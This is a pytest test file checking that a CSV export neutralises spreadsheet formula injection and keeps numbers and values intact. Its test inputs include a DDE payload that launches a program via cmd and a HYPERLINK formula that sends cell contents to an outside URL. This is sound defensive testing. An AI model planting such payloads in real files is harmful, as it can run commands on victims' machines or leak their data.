"""CSV for spreadsheets: no cell is a formula, numbers are numbers, and nothing is lost."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from llmrec.report import spreadsheet, table

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "-",
    "=",
    "-5 Stars",
    "+1\n",
    "@home",
    "-Infinity",
    "+٣",
]


def read(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode(), newline="")))


@pytest.mark.parametrize("title", FORMULAS)
def test_a_formula_becomes_text_in_cells_and_headers(title: str) -> None:
    rows = read(spreadsheet.to_csv(pd.DataFrame({title: [title, "Alien"], "n": [-1.5, 2]})))
    assert rows == [[f"'{title}", "n"], [f"'{title}", "-1.5"], ["Alien", "2.0"]]
    assert read(table.to_csv([{title: title, "n": -1.5}]).encode()) == [[f"'{title}", "n"], [f"'{title}", "-1.5"]]


def test_numbers_stay_numbers_and_gaps_gaps() -> None:
    frame = pd.DataFrame(
        {
            "whole": pd.array([-1, None], dtype="Int64"),
            "real": [-0.25, float("nan")],
            "mixed": [-3, "-4.5e-3"],
            "text": [None, "+7"],
            "flag": [True, False],
            "when": pd.to_datetime(["2020-01-01", None]),
            "list": [["=a", "b"], []],
            "kind": pd.Categorical(["=x", "y"]),
        }
    )
    assert read(spreadsheet.to_csv(frame)) == [
        list(frame.columns),
        ["-1", "-0.25", "-3", "", "True", "2020-01-01 00:00:00", "'=a, b", "'=x"],
        ["", "", "-4.5e-3", "+7", "False", "", "", "y"],
    ]


def test_nothing_is_no_trouble() -> None:
    assert spreadsheet.to_csv(pd.DataFrame()).strip() == b""
    assert spreadsheet.to_csv(pd.DataFrame({"a": []})).strip() == b"a"
    assert read(spreadsheet.to_csv(pd.DataFrame([["=a", "=b"]], columns=["x", "x"]))) == [["x", "x"], ["'=a", "'=b"]]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1))
def test_no_text_is_a_formula_and_none_is_lost(texts: list[str]) -> None:
    rows = read(spreadsheet.to_csv(pd.DataFrame({"key": range(len(texts)), "title": texts})))
    assert len(rows) == len(texts) + 1
    for text, (_, cell) in zip(texts, rows[1:], strict=True):
        said = text.replace("\x00", "")
        assert cell in (said, f"'{said}")
        numeric = spreadsheet._NUMBER.fullmatch(cell)
        assert numeric or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
